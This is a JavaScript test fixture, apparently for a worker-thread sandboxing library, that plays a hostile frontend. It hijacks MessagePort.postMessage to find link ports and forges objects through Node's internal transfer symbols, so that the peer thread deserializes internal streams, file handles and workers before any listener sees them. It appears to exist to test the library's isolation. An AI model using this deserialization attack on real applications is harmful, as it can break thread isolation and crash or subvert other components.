// A hostile frontend: it finds the ports of its links by patching `postMessage`, and posts objects that Node itself deserializes in
// the thread at the other end, before any listener sees the message.
import { emit, expose, invoke } from '@sallyport/frontend'
import { open } from 'node:fs/promises'
import { MessageChannel, MessagePort, parentPort } from 'node:worker_threads'

const { postMessage } = MessagePort.prototype
const linkPorts = new Set()
/** The port to the host, which Node itself keeps: `null` in a sandbox. */
const controlPort = parentPort
MessagePort.prototype.postMessage = function (message, ...rest) {
  // The ports that Node and the host keep for themselves carry messages with a type.
  if (message?.type === undefined) linkPorts.add(this)
  return postMessage.call(this, message, ...rest)
}

function getActivePorts() {
  try {
    return process._getActiveHandles().filter(handle => handle instanceof MessagePort)
  } catch {
    // The sandbox does not have this function.
    return []
  }
}

const findSymbol = description =>
  Object.getOwnPropertySymbols(ReadableStream.prototype).find(symbol => symbol.description === description)
const TRANSFER = findSymbol('messaging_transfer_symbol')
const TRANSFER_LIST = findSymbol('messaging_transfer_list_symbol')

/** Makes Node describe the object by this data, and have its peer restore it by this function. */
function forge(object, data, deserializeInfo, transferList = []) {
  object[TRANSFER] = () => ({ data, deserializeInfo })
  object[TRANSFER_LIST] = () => transferList
  return object
}

/** A stream whose inner port, over which Node transfers its chunks, stays in this frontend. */
function forgeStream(Stream, kind, innerPorts) {
  const { port1, port2 } = new MessageChannel()
  innerPorts.push(port1)
  const deserializeInfo = `internal/webstreams/${kind}stream:Transferred${Stream.name}`
  return forge(new Stream(), { port: port2 }, deserializeInfo, [port2])
}

const forgeReadable = innerPorts => forgeStream(ReadableStream, 'readable', innerPorts)
const forgeWritable = innerPorts => forgeStream(WritableStream, 'writable', innerPorts)

const attacks = {
  ReadableStream: innerPorts => [forgeReadable(innerPorts)],
  WritableStream: innerPorts => [forgeWritable(innerPorts)],
  TransformStream(innerPorts) {
    const [readable, writable] = [forgeReadable(innerPorts), forgeWritable(innerPorts)]
    const deserializeInfo = 'internal/webstreams/transformstream:TransferredTransformStream'
    return [forge(new TransformStream(), { readable, writable }, deserializeInfo, [readable, writable])]
  },
  FileHandle: async () => [await open(new URL(import.meta.url))],
  Blob: () => [new Blob(['x'])],
  deserializeInfo: () =>
    [
      'internal/blob:Blob',
      'internal/fs/promises:FileHandle',
      'internal/socketaddress:InternalSocketAddress',
      'internal/worker:Worker',
      'no/such/module:Name',
      'nothing',
    ].map(name => forge(new ReadableStream(), null, name)),
}

expose({
  /** Attacks the thread at the other end of each port. Returns the number of ports. */
  async attack({ name }) {
    const ports = [...new Set([...getActivePorts(), ...linkPorts])].filter(port => port !== controlPort)
    for (const port of ports) {
      const innerPorts = []
      const objects = await attacks[name](innerPorts)
      for (const object of objects) postMessage.call(port, object, name === 'Blob' ? [] : [object])
      for (const innerPort of innerPorts) innerPort.postMessage(null)
    }
    return ports.length
  },
})

await invoke('which', new Uint8Array(2 ** 22)).catch(() => {})
await emit('ready-to-attack')
